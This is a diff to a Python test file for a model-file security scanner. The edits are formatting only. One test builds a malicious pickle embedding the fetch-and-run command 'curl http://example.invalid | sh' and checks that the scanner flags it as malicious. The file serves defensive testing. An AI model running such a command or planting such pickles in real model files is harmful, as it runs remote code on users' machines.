@@ -31,8 +31,7 @@ def hub_version(server, repo_id: str, files: dict[str, bytes], **repo_options) -
     model = ModelFactory(source=Source.HUB, repo_id=repo_id)
     version = ModelVersionFactory(model=model, commit=commit, total_size=sum(map(len, files.values())))
     for path, data in files.items():
-        ModelFileFactory(version=version, path=path, size=len(data), sha256=hashlib.sha256(data).hexdigest(),
-                         format="")
+        ModelFileFactory(version=version, path=path, size=len(data), sha256=hashlib.sha256(data).hexdigest(), format="")
     return version
 
 
@@ -58,10 +57,14 @@ def test_remote_scan_of_a_big_safetensors_repo_transfers_under_one_percent(hub_e
 
 
 def test_remote_malicious_pickle_is_caught(hub_env):
-    version = hub_version(hub_env, "remote-test/evil", {
-        "pytorch_model.bin": malicious_pickle_bytes("curl http://example.invalid | sh"),
-        "config.json": b'{"model_type": "custom"}',
-    })
+    version = hub_version(
+        hub_env,
+        "remote-test/evil",
+        {
+            "pytorch_model.bin": malicious_pickle_bytes("curl http://example.invalid | sh"),
+            "config.json": b'{"model_type": "custom"}',
+        },
+    )
     run = services.scan_version_now(version.pk)
     assert run.state == ScanState.SUCCEEDED and run.verdict == ScanVerdict.MALICIOUS
     finding = Finding.objects.get(scan_run=run, rule="pickle.global.denied")
@@ -145,5 +148,3 @@ def test_scan_run_row_counts_bytes_transferred(hub_env):
     per_file = sum(ScanFileResult.objects.filter(scan_run=run).values_list("bytes_transferred", flat=True))
     assert run.bytes_transferred == per_file > 0
     assert ScanRun.objects.get(pk=run.pk).transfer_ratio is not None
-
-
